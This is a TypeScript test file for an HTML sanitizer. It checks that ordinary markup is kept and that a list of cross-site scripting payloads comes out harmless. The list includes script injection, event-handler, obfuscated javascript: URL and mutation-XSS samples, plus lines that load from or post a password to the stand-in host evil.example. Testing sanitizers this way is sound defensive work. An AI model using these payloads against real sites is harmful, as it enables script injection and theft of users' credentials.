import fc from 'fast-check'
import { expect, test } from 'vitest'
import { safeHtml } from './safe-html.ts'

const png = 'data:image/png;base64,iVBORw0KGgo='

test.each([
  [
    '<h1>Harbour</h1><p>Two <strong>ships</strong>.</p>',
    '<h2>Harbour</h2><p>Two <strong>ships</strong>.</p>',
  ],
  [`<img src="${png}" alt="Crane">`, `<img src="${png}" alt="Crane" />`],
  [
    '<a href="https://example.org/a?b=1&amp;c=2">more</a>',
    '<a href="https://example.org/a?b=1&amp;c=2">more</a>',
  ],
  ['<a href="mailto:help@example.org">help</a>', '<a href="mailto:help@example.org">help</a>'],
  [
    '<table><tr><th scope="col" onclick="x()">a</th></tr></table>',
    '<table><tr><th scope="col">a</th></tr></table>',
  ],
])('what people write stays: %s', (written, kept) => {
  expect(safeHtml(written)).toBe(kept)
})

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/track.png">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java&#x0A;script:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button>go</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p class="fixed" id="main" name="x">x</p>',
  '<div onmouseover="alert(1)">x</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<<script>script>alert(1)<</script>/script>',
  '<a href="https://user:secret@evil.example" target=_top rel=opener>x</a>',
  '<img src="data:image/png;base64,x" onload="alert(1)" srcset="https://evil.example/x">',
]

test.each(attacks)('what attacks comes out harmless: %s', (attack) => {
  expect(dangersOf(safeHtml(attack))).toEqual([])
})

test('whatever comes in, what goes out stays as it is when it comes in again', () => {
  const parts = fc.constantFrom(
    '<',
    '>',
    '"',
    "'",
    '&',
    '/',
    'script',
    'img',
    ' src=',
    'a',
    ' href=',
    'javascript:',
    '<p>',
    '</p>',
    '<!--',
    '-->',
  )
  fc.assert(
    fc.property(fc.array(parts, { maxLength: 30 }), (list) => {
      const once = safeHtml(list.join(''))
      expect(safeHtml(once)).toBe(once)
      expect(dangersOf(once)).toEqual([])
    }),
  )
})

test('a paragraph that was torn apart is put in order at once', () => {
  expect(safeHtml('<p><a</p><p>')).toBe(safeHtml(safeHtml('<p><a</p><p>')))
})

test('a text that is nested without end does not end the server', () => {
  expect(safeHtml('<blockquote>'.repeat(50_000)).length).toBeLessThan(10_000)
})

const foreign = new Set(
  `script svg math iframe object embed form input button base meta link style template video audio source
  noscript textarea xmp details div`.split(/\s+/),
)
const runs = /\bon\w+\s*=|style\s*=|srcdoc|srcset|javascript:|vbscript:|data:(?!image\/png;base64,)/i

/** What a browser would run, load or leave by, among the tags and their attributes. */
function dangersOf(html: string) {
  const tags = [...html.matchAll(/<\s*([a-z0-9]+)([^>]*)>/gi)]
  return tags.flatMap(([whole, name = '', attributes = '']) => {
    const loads = name === 'img' && !attributes.includes('src="data:image/png;base64,')
    const leaves = name === 'a' && /href="(?!https:|mailto:)/.test(attributes)
    return runs.test(attributes) || foreign.has(name.toLowerCase()) || loads || leaves ? [whole] : []
  })
}
